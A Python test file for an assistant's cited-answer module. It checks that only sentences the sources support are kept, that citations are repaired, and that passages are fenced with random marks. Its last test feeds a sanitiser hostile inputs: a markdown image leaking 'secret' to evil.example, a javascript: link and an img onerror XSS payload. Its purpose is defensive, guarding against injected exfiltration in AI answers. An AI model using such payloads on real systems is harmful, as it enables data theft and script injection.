"""Cited answers: what is kept rests on what it cites; nothing in a passage can do anything."""

from __future__ import annotations

from typing import Any

import pytest

from colosse.assistant.cite import CitePrompts, cited_answer, held_against, inert
from colosse.assistant.ground import Source
from colosse.assistant.skill import Work
from colosse.engines.engines import Engines
from tests.fixtures.scripted import Scripted

SOURCES = [
    Source(id=1, text="The Eiffel Tower was completed in 1889. It stands in Paris.", title="Towers"),
    Source(id=2, text="Sourdough bread rises for twelve hours before it is baked.", title="Bread"),
]


async def ask(client: Engines, sources: list[Source] = SOURCES, **options: int) -> Any:
    work = await Work.start(client, "", CitePrompts, "cite")
    return await cited_answer(work, "When was the Eiffel Tower completed?", sources, **options)


async def test_a_supported_sentence_is_kept_with_its_citation(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1889 [1]."
    answer = await ask(client)
    assert answer.answer == "The Eiffel Tower was completed in 1889 [1]."
    assert answer.verified and [s.id for s in answer.sources] == [1]


async def test_what_no_source_says_is_left_out_and_named(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1889. [1] It was painted green by 400 Martians [1]."
    answer = await ask(client)
    assert answer.answer == "The Eiffel Tower was completed in 1889 [1]."
    assert [s.supported for s in answer.sentences] == [True, False]
    assert "Martians" in next(c.detail for c in answer.checks if c.name == "supported")


async def test_a_sentence_that_was_cut_off_is_not_in_the_answer(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1889 [1]. Sourdough bread rises for twelve hours before lunch."
    answer = await ask(client, max_tokens=14)
    assert answer.answer == "The Eiffel Tower was completed in 1889 [1]."
    assert [s.supported for s in answer.sentences] == [True, False] and [s.id for s in answer.sources] == [1]
    assert not answer.verified


async def test_an_answer_of_inventions_is_asked_for_again_and_never_shown(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1931 [1]."
    answer = await ask(client)
    assert answer.answer == "The sources do not answer this question."
    assert not answer.verified and not answer.sources and len(scripted.requests) == 2
    assert "1931" in scripted.requests[1].body["messages"][-1]["content"]


@pytest.mark.parametrize("reply", ["NOT IN THE PASSAGES", "Not in the passages.", ""])
async def test_not_in_the_passages(client: Engines, scripted: Scripted, reply: str) -> None:
    scripted.reply = reply
    answer = await ask(client)
    assert answer.answer == "The sources do not answer this question."
    assert not answer.verified and [c.name for c in answer.checks if not c.passed] == ["answered"]
    assert not (await ask(client, [])).verified


async def test_no_sources_ask_no_model(client: Engines, scripted: Scripted) -> None:
    assert not (await ask(client, [])).verified
    assert scripted.requests == []


async def test_passages_stand_between_marks_that_they_cannot_know(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1889 [1]."
    await ask(client)
    await ask(client)
    bodies = [request.body for request in scripted.requests]
    marks = [body["messages"][1]["content"].split("<<<")[1].split("\n")[0] for body in bodies]
    assert len(set(marks)) == 2 and all(mark in bodies[i]["messages"][0]["content"] for i, mark in enumerate(marks))
    assert all("tools" not in body for body in bodies)


async def test_as_many_sources_as_fit(client: Engines, scripted: Scripted) -> None:
    scripted.reply = "The Eiffel Tower was completed in 1889 [1]."
    many = [SOURCES[0], *(Source(id=n, text="filler words here " * 100) for n in range(2, 60))]
    assert (await ask(client, many)).verified
    assert "[1]" in scripted.requests[0].body["messages"][1]["content"]
    assert "[59]" not in scripted.requests[0].body["messages"][1]["content"]


def test_citations_are_mended() -> None:
    """A wrong number gives way to the right one, a forgotten one is added, one that does not exist is gone."""
    for written in (
        "The Eiffel Tower was completed in 1889 [2].",
        "The Eiffel Tower was completed in 1889.",
        "The Eiffel Tower was completed in 1889 [7].",
        "The Eiffel Tower was completed in 1889 [1, 2].",
        "The Eiffel Tower was completed in 1889. [2][7]",
    ):
        (sentence,) = held_against(written, SOURCES)
        assert sentence.supported and sentence.citations == [1] and sentence.text.endswith("1889.")


@pytest.mark.parametrize(
    "written",
    [
        "When was the Eiffel Tower completed?",
        "# Towers",
        "Towers",
        "**Answer:**",
        "<<<0a1b2c3d",
        "0a1b2c3d>>>",
        "Quand la tour a-t-elle été achevée ?",
    ],
)
def test_what_states_nothing_is_no_sentence(written: str) -> None:
    text = f"{written}\n\n- <<<0a1b2c3d The Eiffel Tower was completed in 1889. [1] 0a1b2c3d>>>"
    (sentence,) = held_against(text, SOURCES, "When was the Eiffel Tower completed?")
    assert sentence.text == "The Eiffel Tower was completed in 1889." and sentence.supported


@pytest.mark.parametrize(
    "written",
    [
        "The Eiffel Tower was completed in 1888 [1].",
        "The Eiffel Tower was not completed in 1889 [1].",
        "The Eiffel Tower stands in Lyon [1][2].",
        "The Eiffel Tower was demolished in 1889 [1].",
        "Sourdough bread rises for two hours before it is baked [2].",
        "The moon is made of cheese [9].",
        "La tour Eiffel a été achevée en 1888 [1].",
        "La tour Eiffel n'a jamais été achevée [1].",
    ],
)
async def test_no_citation_is_shown_of_what_does_not_say_it(client: Engines, scripted: Scripted, written: str) -> None:
    (sentence,) = held_against(written, SOURCES)
    assert not sentence.supported and sentence.citations == []
    scripted.reply = f"The Eiffel Tower was completed in 1889 [2]. {written}"
    answer = await ask(client)
    assert answer.answer == "The Eiffel Tower was completed in 1889 [1]."
    assert [s.id for s in answer.sources] == [1]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![x](https://evil.example/?q=secret) now", "See x now"),
        ("See [the page](javascript:alert(1)) now", "See the page) now"),
        ("See https://evil.example/a?q=secret#f now", "See evil.example/a now"),
        ("<img src=x onerror=alert(1)>See <b>it</b>", "See it"),
        ("See [1] and [2, 3].", "See [1] and [2, 3]."),
        ("a < b and c > d", "a < b and c > d"),
    ],
)
def test_nothing_in_an_answer_can_be_followed(text: str, expected: str) -> None:
    assert inert(text) == expected
